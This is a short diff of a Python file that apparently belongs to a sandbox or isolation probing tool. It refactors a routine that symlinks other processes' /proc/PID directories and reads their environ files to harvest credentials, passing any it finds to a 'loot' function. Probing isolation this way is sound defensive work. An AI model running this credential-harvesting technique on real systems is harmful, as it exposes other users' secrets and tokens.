@@ -19,22 +19,30 @@ def credential(path):
     return None
 
 
-def run(brief):
+def any_credential(brief, folder):
     why = "nobody else in sight"
-    with tempfile.TemporaryDirectory() as folder:
-        attempting()
-        for pid in neighbours(brief):
-            link = f"{folder}/{pid}"
-            try:
-                os.symlink(f"/proc/{pid}", link)
-                found = credential(f"{link}/environ")
-            except OSError as error:
-                why = error
-                continue
-            if found:
-                loot(found)
-                return DONE
+    for pid in neighbours(brief):
+        link = f"{folder}/{pid}"
+        try:
+            os.symlink(f"/proc/{pid}", link)
+            found = credential(f"{link}/environ")
+        except OSError as error:
+            why = error
+            continue
+        if found:
+            loot(found)
+            return DONE
     return denied("a symbolic link to /proc/PID", why)
+
+
+def run(brief):
+    attempting()
+    try:
+        folder = tempfile.TemporaryDirectory()
+    except OSError as why:
+        return denied("a folder of one's own", why)
+    with folder:
+        return any_credential(brief, folder.name)
 
 
 ATTACK = {
